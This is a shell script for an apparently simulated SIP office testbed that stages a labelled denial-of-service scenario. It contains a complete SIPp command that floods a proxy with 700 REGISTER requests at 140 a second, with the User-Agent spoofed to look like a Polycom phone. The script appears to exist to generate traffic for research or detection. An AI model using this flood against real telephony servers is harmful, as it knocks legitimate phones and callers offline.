# SIPp floods a proxy that challenges everyone with REGISTERs of forty users. Two phones are linphone.
# linphone does not name itself in every response.
tolerated="neither User-Agent nor Server"
relocate example.net 5060 172.18.231 203.0.113 198.18.99
EXTENSIONS=(901 902 903 904 905 906)
EXISTING='^9[0-4][0-9]$'
WEAK=none
LINPHONES=(902 905)
open_office -A WITH_HARDENED
add_attacker registrant 198.18.99.50
start_office_capture
keep_alive 9
office_day 313 58
printf '%s\n' SEQUENTIAL >"$scratch/flooded.csv"
for user in {901..940}; do echo "$user;" >>"$scratch/flooded.csv"; done
sed 's/\[service\]/[field0]/g; s/User-Agent: .*/User-Agent: PolycomVVX-VVX_411-UA\/5.9.5/' "$parts/sipp/flood-register.xml" >"$scratch/flood.xml"
at 20 attack A1 dos registrant 5083 "SIPp sends 700 REGISTERs of forty users, 140 a second, and answers no challenge." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none -inf "$scratch/flooded.csv" \
    -i 198.18.99.50 -p 5083 -r 140 -m 700 172.18.231.1:5060
play
wait_for A1
close_office
